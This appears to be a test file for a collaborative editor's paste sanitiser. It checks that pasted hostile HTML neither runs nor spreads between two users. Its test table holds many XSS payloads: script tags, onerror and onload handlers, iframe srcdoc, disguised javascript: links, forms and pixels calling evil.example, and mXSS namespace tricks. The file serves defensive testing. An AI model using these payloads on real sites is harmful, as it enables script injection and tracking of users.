// @vitest-environment jsdom
/** Pages that mean harm, pasted: their words stay, and nothing of them runs, loads or covers anything, here or there. */
import { expect, test } from 'vitest';
import { TEXT_ROOT } from '#contract/document-schema.ts';
import { lintUpdate } from '#contract/lint-update.ts';
import { paste, typeText, type Seat } from '../../../../support/editors.ts';
import { jana, petr, seatTwo } from '../../../../support/two-seats.ts';

seatTwo();

const FORBIDDEN =
  'script, iframe, object, embed, form, base, meta, link, math, style, video, audio, template, frame';

/** Attributes that run, load or lead somewhere, in what is drawn. */
const badAttributes = ({ editor }: Seat): string[] =>
  [...editor.view.dom.querySelectorAll('*')].flatMap((element) =>
    [...element.attributes]
      .filter(
        ({ name, value }) =>
          /^(on|srcdoc|formaction|ping|xlink)/.test(name) || /javascript:|data:|evil/.test(value),
      )
      .map(({ name, value }) => `${element.tagName} ${name}=${value}`),
  );

const shared = ({ doc }: Seat): string => doc.getXmlFragment(TEXT_ROOT).toJSON();

test.each([
  ['a script', '<p>words</p><script>alarm()</script>'],
  ['a picture that fails', '<p>words<img src="x" onerror="alarm()"></p>'],
  [
    'a drawing that loads',
    '<p>words</p><svg onload="alarm()"><script>alarm()</script><a xlink:href="javascript:alarm()"><text>x</text></a></svg>',
  ],
  [
    'a page in the page',
    '<p>words</p><iframe srcdoc="<script>parent.alarm()</script>"></iframe><iframe src="javascript:parent.alarm()"></iframe>',
  ],
  [
    'a form',
    '<form action="https://evil.example/"><p>words</p><input name="password" autofocus onfocus="alarm()"><button formaction="javascript:alarm()">x</button></form>',
  ],
  [
    'what moves all addresses',
    '<base href="https://evil.example/"><meta http-equiv="refresh" content="0;url=javascript:alarm()"><p>words <a href="a">x</a></p>',
  ],
  [
    'looks that cover the page',
    '<style>*{background:url(https://evil.example/)}</style><p style="position:fixed;inset:0;background:url(https://evil.example/)">words</p>',
  ],
  [
    'namespaces that swap places',
    '<math><mtext><table><mglyph><style><img src=x onerror=alarm()></style></mglyph></table></mtext></math><p>words</p>',
  ],
  [
    'a template',
    '<template><img src=x onerror=alarm()></template><p>words</p><details open ontoggle="alarm()"><summary>x</summary></details>',
  ],
  [
    'an address in disguise',
    '<p>words <a href="java&#10;script:alarm()">a</a> <a href="&#1;javascript:alarm()">b</a> <a href="data:text/html,<script>alarm()</script>">c</a> <a href="vbscript:alarm()">d</a></p>',
  ],
  [
    'a mark of ours that is not',
    '<p data-pm-slice="0 0 []">words<span data-type="mention" data-id="&quot; onclick=&quot;alarm()" data-label="<img src=x onerror=alarm()>"></span></p>',
  ],
  [
    'a picture that tells who reads',
    '<p>words<img src="https://evil.example/pixel.gif"><img data-src="https://evil.example/pixel.gif" srcset="https://evil.example/2.gif 2x"></p>',
  ],
  // Browsers themselves build no more than 512.
  ['elements within elements', `<p>words</p>${'<div>'.repeat(500)}deep`],
])('%s', (_what, html) => {
  paste(jana, { html, text: 'words' });
  for (const seat of [jana, petr]) {
    expect(seat.editor.view.dom.querySelectorAll(FORBIDDEN)).toHaveLength(0);
    expect(badAttributes(seat)).toEqual([]);
    expect(seat.editor.getText()).toContain('words');
  }
  expect(shared(jana)).not.toMatch(/javascript|evil|url\(/);
  typeText(petr, 'still here ');
  expect(jana.editor.getText()).toContain('still here');
  expect(shared(jana)).toBe(shared(petr));
});

test('whatever was pasted is what the log takes', () => {
  let refused = 0;
  jana.doc.on('update', (update: Uint8Array) => (refused += Number(!lintUpdate(update).ok)));
  paste(jana, {
    html: `<p>words</p><table><td colspan="1000000" rowspan="-5">x</td></table><ol start="1e12"><li>y</li></ol>`,
  });
  expect(jana.editor.getText()).toContain('words');
  expect(refused).toBe(0);
});
